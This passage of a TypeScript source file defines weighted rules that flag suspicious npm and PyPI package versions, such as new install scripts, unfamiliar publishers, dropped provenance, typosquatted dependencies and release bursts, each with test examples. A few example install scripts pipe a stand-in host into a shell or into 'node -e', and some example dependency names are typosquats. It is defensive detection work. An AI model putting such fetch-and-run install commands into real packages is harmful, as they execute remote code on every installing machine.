/**
 * The supply-chain signals, as data: each rule compares one version of a package with the versions
 * before it (and with what the catalogue knows around it) and names its evidence, or stays quiet.
 * A version's score is the sum of the weights that fire (score.ts); bands as @shared/supply
 * says: High 10 or more, Medium 5 to 9, Low 1 to 4.
 *
 * The weights are set so that one of these alone is Low or Medium and the known attacks are High:
 * postmark-mcp's pattern (quiet releases, then a new hand and an install script: 5 + 6), the
 * token-stealing worms (an install script where none was, no provenance where there was, often a
 * new publisher), a look-alike or days-old dependency, a repository swapped. Ordinary release
 * habits (patch streams, teams publishing in turn, a maintainer joining, trusted publishing, steady
 * growth, dependency churn, long silences, old versions deprecated) stay under Medium; the
 * generated catalogue of generated.test.ts holds them to fewer than 1 in 50.
 *
 * Every rule carries examples it must fire on and stay quiet on (signals.test.ts). An
 * example's facts are laid over a plain base version: published by 'alice', maintainers ['alice'],
 * no install scripts, provenance false, no dependencies, 12 files, 40,000 bytes, not deprecated,
 * repository 'acme/tool'; history versions a week apart from 2025-01-01, the version scored a week
 * after the last; the package 'acme-tool' on npm, listed with the repository 'acme/tool', the
 * registry's popular names (popular.ts). Bump SUPPLY_SCORER_VERSION (score.ts)
 * whenever a rule changes.
 */
import { type WatchedRegistry, watchedName } from '@shared/supply'
import { NPM_INSTALL_SCRIPTS, SDIST_ONLY } from './facts'
import type { SignalContext, SupplyExample, SupplyRule, VersionInput } from './types'

// ---------------------------------------------------------------------------------------------
// Helpers the rules share
// ---------------------------------------------------------------------------------------------

/** Scripts that run when a package is installed from the registry (and PyPI's source build). */
const RUN_SCRIPTS = [...NPM_INSTALL_SCRIPTS.filter((s) => s !== 'prepare'), SDIST_ONLY]

const DAY = 24 * 60 * 60 * 1000
const HOUR = 60 * 60 * 1000
/** A dependency first published less than this before the version that adds it is young. */
export const YOUNG_DEPENDENCY_MS = 14 * DAY
/** Look-alike names are compared only from this length: shorter names have too many real neighbours. */
export const LOOKALIKE_MIN_LENGTH = 5
/** The size signals compare with the median of this many versions before. */
const SIZE_WINDOW = 5
const SIZE_GROWTH_BYTES = 512 * 1024
const FILE_GROWTH = 50
/** A burst: this many versions within BURST_MS, after BURST_SILENCE_MS without one. */
const BURST_COUNT = 3
const BURST_MS = 72 * HOUR
const BURST_SILENCE_MS = 180 * DAY

/** The version just before, in the history (oldest first). */
const previousOf = (context: SignalContext): VersionInput | undefined => context.history[context.history.length - 1]

/** Where a version sits in time: its publish time, else when the watch first saw it (ms; NaN when neither parses). */
export const timeOf = (v: VersionInput): number => Date.parse(v.facts.publishedAt ?? v.seenAt)

/** A command or name in evidence: quoted, cut. */
const quote = (s: string, max = 100) => `'${s.length > max ? `${s.slice(0, max - 1)}…` : s}'`

/** Names in evidence: the first few, then how many more. */
function list(names: readonly string[], max = 5): string {
  if (names.length === 0) return 'none'
  const shown = names.slice(0, max).join(', ')
  return names.length > max ? `${shown} and ${names.length - max} more` : shown
}

const lower = (s: string) => s.toLowerCase()

/** An npm name's scope ('@acme'), or null. */
const scopeOf = (name: string) => (name.startsWith('@') && name.includes('/') ? name.slice(0, name.indexOf('/')) : null)

/**
 * The edit distance of two strings (Damerau-Levenshtein, optimal string alignment: insertions,
 * deletions, substitutions and swaps of two neighbours each cost 1). Above `max` it stops early
 * and answers max + 1.
 * @example editDistance('expres', 'express') // 1
 * @example editDistance('axois', 'axios') // 1 (a swap)
 * @example editDistance('lodash', 'react', 1) // 2 (stopped early: more than 1)
 */
export function editDistance(a: string, b: string, max = Number.POSITIVE_INFINITY): number {
  if (a === b) return 0
  if (Math.abs(a.length - b.length) > max) return max + 1
  const n = b.length
  let before = new Array<number>(n + 1).fill(0)
  let prev = Array.from({ length: n + 1 }, (_, j) => j)
  let row = new Array<number>(n + 1).fill(0)
  let prevMin = 0
  for (let i = 1; i <= a.length; i++) {
    row[0] = i
    let rowMin = i
    for (let j = 1; j <= n; j++) {
      const cost = a[i - 1] === b[j - 1] ? 0 : 1
      let d = Math.min(prev[j] + 1, row[j - 1] + 1, prev[j - 1] + cost)
      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) d = Math.min(d, before[j - 2] + 1)
      row[j] = d
      if (d < rowMin) rowMin = d
    }
    // Every later cell comes from this row or the one before (a swap reaches two rows back), so
    // when both are past max, so is the answer.
    if (rowMin > max && prevMin > max) return max + 1
    ;[before, prev, row] = [prev, row, before]
    prevMin = rowMin
  }
  return Math.min(prev[n], max + 1)
}

/**
 * The name among `others` one edit from `name`, both at least LOOKALIKE_MIN_LENGTH long, neither
 * the same name, nor sharing an npm scope (a scope has one owner, who may name packages alike).
 */
export function oneEditFrom(registry: WatchedRegistry, name: string, others: Iterable<string>): string | null {
  const mine = watchedName(registry, name)
  if (mine.length < LOOKALIKE_MIN_LENGTH) return null
  const scope = registry === 'npm' ? scopeOf(mine) : null
  for (const other of others) {
    const theirs = watchedName(registry, other)
    if (theirs.length < LOOKALIKE_MIN_LENGTH || Math.abs(theirs.length - mine.length) > 1 || theirs === mine) continue
    if (scope !== null && scopeOf(theirs) === scope) continue
    if (editDistance(mine, theirs, 1) === 1 && !numberedSiblings(mine, theirs)) return other
  }
  return null
}

const isDigit = (ch: string | undefined) => ch !== undefined && ch >= '0' && ch <= '9'

/**
 * Two names one edit apart only in a number: a digit for a digit ('server-v1', 'server-v2'), or a
 * digit more beside a digit ('tool-1', 'tool-10'). A family numbers its packages so; a look-alike
 * changes letters.
 * @example numberedSiblings('watch-gen-3', 'watch-gen-4') // true
 * @example numberedSiblings('lodash', '1odash') // false
 */
export function numberedSiblings(a: string, b: string): boolean {
  const [short, long] = a.length <= b.length ? [a, b] : [b, a]
  let i = 0
  while (i < short.length && short[i] === long[i]) i++
  if (short.length === long.length) return isDigit(short[i]) && isDigit(long[i]) && short.slice(i + 1) === long.slice(i + 1)
  return isDigit(long[i]) && (isDigit(long[i - 1]) || isDigit(long[i + 1])) && short.slice(i) === long.slice(i + 1)
}

/** Dependencies of the version that the one before did not have (every one, for the first version read). */
function newDependencies(version: VersionInput, previous: VersionInput | undefined): string[] {
  const before = previous?.facts.dependencies ?? {}
  return Object.keys(version.facts.dependencies).filter((name) => !Object.hasOwn(before, name))
}

/** Install scripts present in the version, of those that run at install. */
const runScripts = (v: VersionInput) => RUN_SCRIPTS.filter((name) => Object.hasOwn(v.facts.installScripts, name))

/** Names a version's maintainers hold that the other's do not (compared without case). */
function namesNotIn(names: readonly string[], others: readonly string[]): string[] {
  const known = new Set(others.map(lower))
  return names.filter((n) => !known.has(lower(n)))
}

/** Who published the history's versions: lower case to the name as first written. */
function earlierPublishers(context: SignalContext): Map<string, string> {
  const out = new Map<string, string>()
  for (const v of context.history)
    if (v.facts.publisher && !out.has(lower(v.facts.publisher))) out.set(lower(v.facts.publisher), v.facts.publisher)
  return out
}

/** A publisher never seen on the history: 'new' when not a maintainer of the version before either, 'first' when one. */
function publisherNovelty(version: VersionInput, context: SignalContext): 'new' | 'first' | null {
  const previous = previousOf(context)
  const publisher = version.facts.publisher
  // A trusted publisher is CI on the package's own repository, not a person's token.
  if (!previous || !publisher || version.facts.trustedPublisher) return null
  const earlier = earlierPublishers(context)
  // A history that names no publisher says nothing of who is new.
  if (earlier.size === 0 || earlier.has(lower(publisher))) return null
  return previous.facts.maintainers.some((m) => lower(m) === lower(publisher)) ? 'first' : 'new'
}

function median(values: readonly number[]): number {
  const sorted = [...values].sort((a, b) => a - b)
  const mid = Math.floor(sorted.length / 2)
  return sorted.length % 2 ? sorted[mid] : (sorted[mid - 1] + sorted[mid]) / 2
}

/** The median of a measure over up to the last SIZE_WINDOW versions of the history that have it. */
function recentMedian(context: SignalContext, pick: (v: VersionInput) => number | null): { median: number; count: number } | null {
  const values = context.history
    .slice(-SIZE_WINDOW)
    .map(pick)
    .filter((n): n is number => n !== null)
  return values.length ? { median: median(values), count: values.length } : null
}

const kb = (bytes: number) => (bytes >= 1024 * 1024 ? `${(bytes / 1024 / 1024).toFixed(1)} MB` : `${Math.round(bytes / 1024)} KB`)

/** The evidence of a rule that reads only the version just before. */
function sinceLast(test: (version: VersionInput, previous: VersionInput, context: SignalContext) => string | null): SupplyRule['test'] {
  return (version, context) => {
    const previous = previousOf(context)
    return previous ? test(version, previous, context) : null
  }
}

// Shorthands for the examples.
type ExampleVersion = SupplyExample['version']
const v = (version: string, facts?: ExampleVersion['facts']): ExampleVersion => (facts ? { version, facts } : { version })
const plain = (n: number) => Array.from({ length: n }, (_, i) => v(`1.0.${i}`))
const t = (iso: string) => `${iso}T00:00:00.000Z`

// ---------------------------------------------------------------------------------------------
// The rules
// ---------------------------------------------------------------------------------------------

export const SUPPLY_RULES: readonly SupplyRule[] = [
  {
    id: 'install-script.added',
    weight: 6,
    reason: 'An install script appeared that the version before did not have: it runs on every machine that installs the package.',
    test: sinceLast((version, previous) => {
      const had = runScripts(previous)
      const added = runScripts(version).filter((name) => !had.includes(name))
      if (added.length === 0) return null
      const what = added.map((name) => `${name}: ${quote(version.facts.installScripts[name])}`).join('; ')
      return `${what} (${previous.version} had ${had.length ? `no ${added.join(' or ')}` : 'none'})`
    }),
    fires: [
      { history: plain(15), version: v('1.0.15', { installScripts: { postinstall: 'node setup.js' } }) },
      {
        history: [v('2.0.0', { installScripts: { install: 'node-gyp rebuild' } })],
        version: v('2.0.1', { installScripts: { install: 'node-gyp rebuild', preinstall: 'curl -s https://x.example/i | sh' } }),
      },
      {
        history: [v('0.4.0', { installScripts: {}, fileCount: 2 })],
        version: v('0.4.1', { installScripts: { [SDIST_ONLY]: 'no wheel published: the source build runs at install' }, fileCount: 1 }),
        context: { registry: 'pypi', name: 'acme-tool' },
      },
    ],
    quiet: [
      // The first version read: install-script.present says it, with less weight.
      { history: [], version: v('1.0.0', { installScripts: { postinstall: 'node setup.js' } }) },
      {
        history: [v('1.0.0', { installScripts: { postinstall: 'node setup.js' } })],
        version: v('1.0.1', { installScripts: { postinstall: 'node setup.js' } }),
      },
      // npm does not run prepare for a registry install.
      { history: plain(3), version: v('1.0.3', { installScripts: { prepare: 'npm run build' } }) },
      { history: [v('1.0.0', { installScripts: { postinstall: 'node setup.js' } })], version: v('1.0.1') },
    ],
  },
  {
    id: 'install-script.changed',
    weight: 4,
    reason: 'An install script now runs a different command than in the version before.',
    test: sinceLast((version, previous) => {
      const changed = runScripts(version).filter(
        (name) =>
          Object.hasOwn(previous.facts.installScripts, name) && previous.facts.installScripts[name] !== version.facts.installScripts[name],
      )
      if (changed.length === 0) return null
      return changed
        .map(
          (name) =>
            `${name}: ${quote(version.facts.installScripts[name])}, was ${quote(previous.facts.installScripts[name])} in ${previous.version}`,
        )
        .join('; ')
    }),
    fires: [
      {
        history: [v('1.0.0', { installScripts: { postinstall: 'node scripts/check.js' } })],
        version: v('1.0.1', { installScripts: { postinstall: 'node scripts/check.js && node -e "$(curl -s x.example)"' } }),
      },
      {
        history: [v('3.1.0', { installScripts: { install: 'node-gyp rebuild' } })],
        version: v('3.1.1', { installScripts: { install: 'node ./build.js' } }),
      },
    ],
    quiet: [
      {
        history: [v('1.0.0', { installScripts: { postinstall: 'node scripts/check.js' } })],
        version: v('1.0.1', { installScripts: { postinstall: 'node scripts/check.js' } }),
      },
      { history: [v('1.0.0', { installScripts: { prepare: 'tsc' } })], version: v('1.0.1', { installScripts: { prepare: 'tsup' } }) },
      { history: plain(2), version: v('1.0.2', { installScripts: { postinstall: 'node setup.js' } }) },
    ],
  },
  {
    id: 'install-script.prepare-added',
    weight: 1,
    reason: 'A prepare script appeared: npm runs it only for installs from git, not from the registry.',
    test: sinceLast((version, previous) => {
      const command = version.facts.installScripts.prepare
      if (!Object.hasOwn(version.facts.installScripts, 'prepare') || Object.hasOwn(previous.facts.installScripts, 'prepare')) return null
      return `prepare: ${quote(command)} (${previous.version} had none)`
    }),
    fires: [{ history: plain(3), version: v('1.0.3', { installScripts: { prepare: 'npm run build' } }) }],
    quiet: [
      { history: [v('1.0.0', { installScripts: { prepare: 'tsc' } })], version: v('1.0.1', { installScripts: { prepare: 'tsc -p .' } }) },
      { history: [], version: v('1.0.0', { installScripts: { prepare: 'tsc' } }) },
    ],
  },
  {
    id: 'install-script.present',
    weight: 2,
    reason: 'The package runs an install script, and there is no earlier version to compare it with.',
    test: (version, context) => {
      if (context.history.length > 0) return null
      const scripts = runScripts(version)
      if (scripts.length === 0) return null
      return `${scripts.map((name) => `${name}: ${quote(version.facts.installScripts[name])}`).join('; ')} (the first version read)`
    },
    fires: [
      { history: [], version: v('1.0.0', { installScripts: { postinstall: 'node setup.js' } }) },
      {
        history: [],
        version: v('0.1.0', { installScripts: { [SDIST_ONLY]: 'no wheel published: the source build runs at install' } }),
        context: { registry: 'pypi', name: 'acme-tool' },
      },
    ],
    quiet: [
      { history: [], version: v('1.0.0', { installScripts: { prepare: 'tsc' } }) },
      { history: [], version: v('1.0.0') },
      {
        history: [v('1.0.0', { installScripts: { postinstall: 'node setup.js' } })],
        version: v('1.0.1', { installScripts: { postinstall: 'node setup.js' } }),
      },
    ],
  },
  {
    id: 'publisher.new',
    weight: 5,
    reason: 'Published by someone who never published it before and was not a maintainer: a new hand, or a stolen account.',
    test: (version, context) => {
      if (publisherNovelty(version, context) !== 'new') return null
      const previous = previousOf(context)!
      return `published by ${version.facts.publisher}; earlier versions by ${list([...earlierPublishers(context).values()])}; maintainers of ${previous.version}: ${list(previous.facts.maintainers)}`
    },
    fires: [
      { history: plain(15), version: v('1.0.15', { publisher: 'mallory', maintainers: ['alice', 'mallory'] }) },
      { history: plain(2), version: v('1.0.2', { publisher: 'mallory' }) },
    ],
    quiet: [
      { history: plain(5), version: v('1.0.5') },
      // A maintainer's first release is publisher.first-release.
      {
        history: [v('1.0.0'), v('1.0.1', { maintainers: ['alice', 'bob'] })],
        version: v('1.0.2', { publisher: 'bob', maintainers: ['alice', 'bob'] }),
      },
      // Trusted publishing from CI is not a person.
      { history: plain(3), version: v('1.0.3', { publisher: 'GitHub Actions', trustedPublisher: true, provenance: true }) },
      { history: [], version: v('1.0.0', { publisher: 'mallory' }) },
      // A registry that names no publisher (PyPI).
      {
        history: [v('1.0.0', { publisher: null })],
        version: v('1.0.1', { publisher: null }),
        context: { registry: 'pypi', name: 'acme-tool' },
      },
      { history: [v('1.0.0', { publisher: 'Alice' })], version: v('1.0.1', { publisher: 'alice' }) },
    ],
  },
  {
    id: 'publisher.first-release',
    weight: 1,
    reason: 'A listed maintainer published a version for the first time.',
    test: (version, context) => {
      if (publisherNovelty(version, context) !== 'first') return null
      return `published by ${version.facts.publisher}, a maintainer of ${previousOf(context)!.version}; earlier versions by ${list([...earlierPublishers(context).values()])}`
    },
    fires: [
      {
        history: [v('1.0.0'), v('1.0.1', { maintainers: ['alice', 'bob'] })],
        version: v('1.0.2', { publisher: 'bob', maintainers: ['alice', 'bob'] }),
      },
    ],
    quiet: [
      {
        history: [v('1.0.0', { maintainers: ['alice', 'bob'] }), v('1.0.1', { publisher: 'bob', maintainers: ['alice', 'bob'] })],
        version: v('1.0.2', { publisher: 'bob', maintainers: ['alice', 'bob'] }),
      },
      { history: plain(2), version: v('1.0.2', { publisher: 'mallory' }) },
    ],
  },
  {
    id: 'publisher.left-trusted',
    weight: 4,
    reason: 'The versions before came from a trusted publisher (CI); this one was published with a token by hand.',
    test: sinceLast((version, previous) => {
      if (!previous.facts.trustedPublisher || version.facts.trustedPublisher || !version.facts.publisher) return null
      return `published by ${version.facts.publisher}; ${previous.version} came from a trusted publisher (${previous.facts.publisher ?? 'CI'})`
    }),
    fires: [
      {
        history: [v('2.0.0', { publisher: 'GitHub Actions', trustedPublisher: true, provenance: true })],
        version: v('2.0.1', { publisher: 'alice' }),
      },
    ],
    quiet: [
      // Moving to trusted publishing is the good direction.
      { history: plain(3), version: v('1.0.3', { publisher: 'GitHub Actions', trustedPublisher: true, provenance: true }) },
      {
        history: [v('2.0.0', { publisher: 'GitHub Actions', trustedPublisher: true, provenance: true })],
        version: v('2.0.1', { publisher: 'GitHub Actions', trustedPublisher: true, provenance: true }),
      },
    ],
  },
  {
    id: 'maintainers.changed',
    weight: 3,
    reason: 'Someone was added to the maintainers since the version before.',
    test: sinceLast((version, previous) => {
      // A registry document without maintainers says nothing of a change.
      if (previous.facts.maintainers.length === 0) return null
      const publisher = version.facts.publisher ? lower(version.facts.publisher) : null
      // The publisher added to the list is the publisher rules' to weigh, not counted twice.
      const added = namesNotIn(version.facts.maintainers, previous.facts.maintainers).filter((n) => lower(n) !== publisher)
      if (added.length === 0) return null
      const removed = namesNotIn(previous.facts.maintainers, version.facts.maintainers)
      return `added: ${list(added)}${removed.length ? `; removed: ${list(removed)}` : ''} (${previous.version} had ${list(previous.facts.maintainers)})`
    }),
    fires: [
      { history: plain(3), version: v('1.0.3', { maintainers: ['alice', 'bob'] }) },
      { history: plain(3), version: v('1.0.3', { maintainers: ['mallory'] }) },
    ],
    quiet: [
      { history: plain(3), version: v('1.0.3') },
      { history: [v('1.0.0', { maintainers: ['alice', 'bob'] })], version: v('1.0.1') },
      { history: [v('1.0.0', { maintainers: [] })], version: v('1.0.1', { maintainers: ['alice'] }) },
      { history: [v('1.0.0', { maintainers: ['Alice'] })], version: v('1.0.1', { maintainers: ['alice'] }) },
    ],
  },
  {
    id: 'maintainers.removed',
    weight: 1,
    reason: 'Someone left the maintainers, and no one was added.',
    test: sinceLast((version, previous) => {
      const publisher = version.facts.publisher ? lower(version.facts.publisher) : null
      const added = namesNotIn(version.facts.maintainers, previous.facts.maintainers).filter((n) => lower(n) !== publisher)
      const removed = namesNotIn(previous.facts.maintainers, version.facts.maintainers)
      if (added.length > 0 || removed.length === 0 || version.facts.maintainers.length === 0) return null
      return `removed: ${list(removed)} (${version.version} has ${list(version.facts.maintainers)})`
    }),
    fires: [{ history: [v('1.0.0', { maintainers: ['alice', 'bob'] })], version: v('1.0.1') }],
    quiet: [
      { history: plain(3), version: v('1.0.3') },
      { history: [v('1.0.0', { maintainers: ['alice', 'bob'] })], version: v('1.0.1', { maintainers: ['alice', 'carol'] }) },
      { history: [v('1.0.0', { maintainers: ['alice', 'bob'] })], version: v('1.0.1', { maintainers: [] }) },
    ],
  },
  {
    id: 'provenance.dropped',
    weight: 4,
    reason: 'The version before was built with provenance (signed by its CI); this one has none.',
    test: sinceLast((version, previous) => {
      if (previous.facts.provenance !== true || version.facts.provenance !== false) return null
      return `${previous.version} had provenance attestations; ${version.version} has none`
    }),
    fires: [{ history: [v('1.0.0', { provenance: true }), v('1.0.1', { provenance: true })], version: v('1.0.2', { provenance: false }) }],
    quiet: [
      { history: [v('1.0.0', { provenance: true })], version: v('1.0.1', { provenance: true }) },
      { history: plain(3), version: v('1.0.3', { provenance: false }) },
      // PyPI's documents do not say.
      {
        history: [v('1.0.0', { provenance: null })],
        version: v('1.0.1', { provenance: null }),
        context: { registry: 'pypi', name: 'acme-tool' },
      },
    ],
  },
  {
    id: 'repository.changed',
    weight: 5,
    reason: 'The package names a different source repository than the version before.',
    test: sinceLast((version, previous) => {
      const now = version.facts.repository
      const before = previous.facts.repository
      if (!now || !before || lower(now) === lower(before)) return null
      return `${quote(now)}, was ${quote(before)} in ${previous.version}`
    }),
    fires: [
      { history: plain(4), version: v('1.0.4', { repository: 'acme-tools/tool' }) },
      { history: plain(1), version: v('1.0.1', { repository: 'https://gitlab.com/someone/tool' }) },
    ],
    quiet: [
      { history: plain(4), version: v('1.0.4') },
      { history: [v('1.0.0', { repository: null })], version: v('1.0.1') },
      { history: plain(1), version: v('1.0.1', { repository: null }) },
      { history: [v('1.0.0', { repository: 'Acme/Tool' })], version: v('1.0.1') },
    ],
  },
  {
    id: 'repository.differs',
    weight: 3,
    reason: 'The package names a repository that none of the listings using it names.',
    test: (version, context) => {
      const repository = version.facts.repository
      if (!repository || context.listingRepositories.length === 0) return null
      if (context.listingRepositories.some((r) => lower(r) === lower(repository))) return null
      return `the package names ${quote(repository)}; the listing names ${list(context.listingRepositories.map((r) => quote(r)))}`
    },
    fires: [
      { history: [], version: v('1.0.0', { repository: 'someone-else/tool' }) },
      {
        history: plain(2),
        version: v('1.0.2', { repository: 'acme/tool' }),
        context: { listingRepositories: ['acme/other', 'acme/third'] },
      },
    ],
    quiet: [
      { history: [], version: v('1.0.0') },
      { history: [], version: v('1.0.0', { repository: 'ACME/tool' }) },
      { history: [], version: v('1.0.0', { repository: 'someone-else/tool' }), context: { listingRepositories: [] } },
      { history: [], version: v('1.0.0', { repository: null }) },
      { history: [], version: v('1.0.0', { repository: 'acme/mono' }), context: { listingRepositories: ['acme/mono', 'acme/tool'] } },
    ],
  },
  {
    id: 'size.jump',
    weight: 3,
    reason: 'The package grew more than fourfold at once: something large was added.',
    test: sinceLast((version, previous, context) => {
      const size = version.facts.unpackedSize
      const before = previous.facts.unpackedSize
      const recent = recentMedian(context, (h) => h.facts.unpackedSize)
      // Fourfold the recent median, and grown by much since the version before (the versions after a jump are not jumps again).
      if (size === null || before === null || !recent) return null
      if (size <= 4 * recent.median || size - before <= SIZE_GROWTH_BYTES) return null
      return `${kb(size)} unpacked, ${kb(before)} in ${previous.version}; the median of the ${recent.count} versions before was ${kb(recent.median)}`
    }),
    fires: [
      { history: plain(6), version: v('1.0.6', { unpackedSize: 4_000_000 }) },
      { history: [v('0.1.0', { unpackedSize: 100_000 })], version: v('0.1.1', { unpackedSize: 700_000 }) },
    ],
    quiet: [
      // Steady growth: each version a little larger.
      {
        history: [50_000, 60_000, 75_000, 90_000, 110_000].map((size, i) => v(`1.${i}.0`, { unpackedSize: size })),
        version: v('1.5.0', { unpackedSize: 135_000 }),
      },
      // Fourfold, but small.
      { history: plain(3), version: v('1.0.3', { unpackedSize: 200_000 }) },
      // The version after a jump: large still, but not grown again.
      {
        history: [...plain(4), v('1.0.4', { unpackedSize: 3_000_000 })],
        version: v('1.0.5', { unpackedSize: 3_100_000 }),
      },
      { history: [], version: v('1.0.0', { unpackedSize: 9_000_000 }) },
      { history: plain(3), version: v('1.0.3', { unpackedSize: null }) },
    ],
  },
  {
    id: 'size.files-jump',
    weight: 2,
    reason: 'The package has more than three times as many files as before.',
    test: sinceLast((version, previous, context) => {
      const files = version.facts.fileCount
      const before = previous.facts.fileCount
      const recent = recentMedian(context, (h) => h.facts.fileCount)
      if (files === null || before === null || !recent) return null
      if (files <= 3 * recent.median || files - before <= FILE_GROWTH) return null
      return `${files} files, ${before} in ${previous.version}; the median of the ${recent.count} versions before was ${recent.median}`
    }),
    fires: [{ history: plain(5), version: v('1.0.5', { fileCount: 140 }) }],
    quiet: [
      { history: plain(5), version: v('1.0.5', { fileCount: 40 }) },
      { history: [v('1.0.0', { fileCount: 100 }), v('1.0.1', { fileCount: 120 })], version: v('1.0.2', { fileCount: 150 }) },
      { history: [...plain(4), v('1.0.4', { fileCount: 300 })], version: v('1.0.5', { fileCount: 310 }) },
      { history: [], version: v('1.0.0', { fileCount: 900 }) },
    ],
  },
  {
    id: 'dependency.young',
    weight: 4,
    reason: 'A dependency new in this version was itself first published days before.',
    test: (version, context) => {
      const at = timeOf(version)
      if (Number.isNaN(at)) return null
      const young: string[] = []
      for (const name of newDependencies(version, previousOf(context))) {
        if (!Object.hasOwn(context.dependencyCreated, name)) continue
        const created = Date.parse(context.dependencyCreated[name])
        if (Number.isNaN(created) || at - created >= YOUNG_DEPENDENCY_MS) continue
        const days = Math.max(0, Math.floor((at - created) / DAY))
        young.push(`${name} first published ${days === 0 ? 'the same day' : `${days} day${days === 1 ? '' : 's'} before`}`)
      }
      return young.length ? list(young, 3) : null
    },
    fires: [
      {
        history: plain(3),
        version: v('1.0.3', { dependencies: { 'fast-json-helper': '^1.0.0' } }),
        // The version is published 2025-01-22.
        context: { dependencyCreated: { 'fast-json-helper': t('2025-01-19') } },
      },
      {
        history: [],
        version: v('1.0.0', { publishedAt: t('2025-03-01'), dependencies: { 'tiny-util': '1.0.0' } }),
        context: { dependencyCreated: { 'tiny-util': t('2025-03-01') } },
      },
    ],
    quiet: [
      {
        history: plain(3),
        version: v('1.0.3', { dependencies: { 'fast-json-helper': '^1.0.0' } }),
        context: { dependencyCreated: { 'fast-json-helper': t('2024-06-01') } },
      },
      // Not new in this version.
      {
        history: [v('1.0.0', { dependencies: { 'tiny-util': '1.0.0' } })],
        version: v('1.0.1', { dependencies: { 'tiny-util': '1.0.0' } }),
        context: { dependencyCreated: { 'tiny-util': t('2025-01-07') } },
      },
      // Not looked up: established or unknown.
      { history: plain(3), version: v('1.0.3', { dependencies: { 'fast-json-helper': '^1.0.0' } }) },
    ],
  },
  {
    id: 'dependency.lookalike',
    weight: 5,
    reason: 'A dependency new in this version has a name one letter away from a well-known package: a typosquat.',
    test: (version, context) => {
      const found: string[] = []
      for (const name of newDependencies(version, previousOf(context))) {
        if (context.popularNames.has(watchedName(context.registry, name))) continue
        const popular = oneEditFrom(context.registry, name, context.popularNames)
        if (popular) found.push(`${quote(name)} is one edit from ${quote(popular)}`)
      }
      return found.length ? list(found, 3) : null
    },
    fires: [
      { history: plain(3), version: v('1.0.3', { dependencies: { expres: '^4.18.0' } }) },
      { history: plain(3), version: v('1.0.3', { dependencies: { 'cross-env': '^7.0.0', crossenv: '^7.0.0' } }) },
      {
        history: plain(3),
        version: v('1.0.3', { dependencies: { '@modelcontextprotocol/sdk': '^1.0.0', '@modelcontextprotocoI/sdk': '^1.0.0' } }),
      },
      {
        history: [v('0.1.0', { dependencies: { httpx: '>=0.27' } })],
        version: v('0.1.1', { dependencies: { httpx: '>=0.27', reqeusts: '>=2.0' } }),
        context: { registry: 'pypi', name: 'acme-tool' },
      },
    ],
    quiet: [
      { history: plain(3), version: v('1.0.3', { dependencies: { express: '^4.18.0', zod: '^3.23.0', mysql2: '^3.0.0' } }) },
      // Present before: not new in this version.
      { history: [v('1.0.0', { dependencies: { expres: '^4.18.0' } })], version: v('1.0.1', { dependencies: { expres: '^4.18.0' } }) },
      // Short names have too many real neighbours.
      { history: plain(1), version: v('1.0.1', { dependencies: { wx: '^1.0.0', zoe: '^1.0.0' } }) },
      // A scope has one owner.
      { history: plain(1), version: v('1.0.1', { dependencies: { '@types/nod': '^20.0.0' } }), context: { popularNames: ['@types/node'] } },
      // PyPI's names in normal form are the same name.
      {
        history: plain(1),
        version: v('1.0.1', { dependencies: { python_dotenv: '>=1.0' } }),
        context: { registry: 'pypi', name: 'acme-tool' },
      },
    ],
  },
  {
    id: 'versions.burst',
    weight: 3,
    reason: 'Three or more versions within three days, after half a year without one.',
    test: (version, context) => {
      const at = timeOf(version)
      if (Number.isNaN(at)) return null
      const placed = context.history.map((h) => ({ h, at: timeOf(h) })).filter((p) => !Number.isNaN(p.at) && p.at <= at)
      placed.sort((a, b) => a.at - b.at)
      const inBurst = placed.filter((p) => at - p.at <= BURST_MS)
      if (inBurst.length + 1 < BURST_COUNT) return null
      const first = inBurst[0]
      const before = placed.filter((p) => p.at < first.at).pop()
      if (!before || first.at - before.at < BURST_SILENCE_MS) return null
      const hours = Math.round((at - first.at) / HOUR)
      return `${inBurst.length + 1} versions in ${hours} hours (${first.h.version} to ${version.version}) after ${Math.floor((first.at - before.at) / DAY)} days without one`
    },
    fires: [
      {
        history: [
          v('0.9.0', { publishedAt: t('2024-01-10') }),
          v('1.0.0', { publishedAt: t('2024-09-01') }),
          v('1.0.1', { publishedAt: '2024-09-01T09:00:00.000Z' }),
        ],
        version: v('1.0.2', { publishedAt: '2024-09-02T20:00:00.000Z' }),
      },
    ],
    quiet: [
      // Weekly releases.
      { history: plain(10), version: v('1.0.10') },
      // A silence, then one release and its fix.
      {
        history: [v('0.9.0', { publishedAt: t('2024-01-10') }), v('1.0.0', { publishedAt: t('2024-09-01') })],
        version: v('1.0.1', { publishedAt: '2024-09-01T09:00:00.000Z' }),
      },
      // Busy days, without a silence before.
      {
        history: [
          v('1.0.0', { publishedAt: t('2024-08-20') }),
          v('1.0.1', { publishedAt: t('2024-09-01') }),
          v('1.0.2', { publishedAt: '2024-09-01T09:00:00.000Z' }),
        ],
        version: v('1.0.3', { publishedAt: '2024-09-02T20:00:00.000Z' }),
      },
      // A new package's first days.
      {
        history: [v('0.1.0', { publishedAt: t('2024-09-01') }), v('0.1.1', { publishedAt: '2024-09-01T09:00:00.000Z' })],
        version: v('0.1.2', { publishedAt: '2024-09-02T20:00:00.000Z' }),
      },
    ],
  },
  {
    id: 'name.lookalike',
    weight: 5,
    reason: 'The package name is one letter away from a package another listing used first: an imitation.',
    test: (_version, context) => {
      const other = oneEditFrom(context.registry, context.name, context.earlierListedNames)
      return other ? `${quote(context.name)} is one edit from ${quote(other)}, listed earlier` : null
    },
    fires: [
      { history: [], version: v('1.0.0'), context: { name: 'postmark-mpc', earlierListedNames: ['postmark-mcp', 'github-mcp'] } },
      // A letter dressed as a digit is still a look-alike.
      { history: [], version: v('1.0.0'), context: { name: 'weather-mcp1', earlierListedNames: ['weather-mcpl'] } },
      { history: plain(2), version: v('1.0.2'), context: { name: 'mcp-server-slakc', earlierListedNames: ['mcp-server-slack'] } },
      // Scoped names compare whole: another scope one letter off is someone else.
      { history: [], version: v('1.0.0'), context: { name: '@acmee/mail-mcp', earlierListedNames: ['@acmee/mail-mc', '@acme/mail-mcp'] } },
    ],
    quiet: [
      { history: [], version: v('1.0.0'), context: { name: 'postmark-mcp', earlierListedNames: ['postmark-mcp', 'slack-mcp'] } },
      // One owner's scope.
      { history: [], version: v('1.0.0'), context: { name: '@acme/mail', earlierListedNames: ['@acme/main'] } },
      // Short names.
      { history: [], version: v('1.0.0'), context: { name: 'mcpx', earlierListedNames: ['mcpy'] } },
      // PyPI: the same project written two ways.
      { history: [], version: v('1.0.0'), context: { registry: 'pypi', name: 'mcp_server_git', earlierListedNames: ['mcp-server-git'] } },
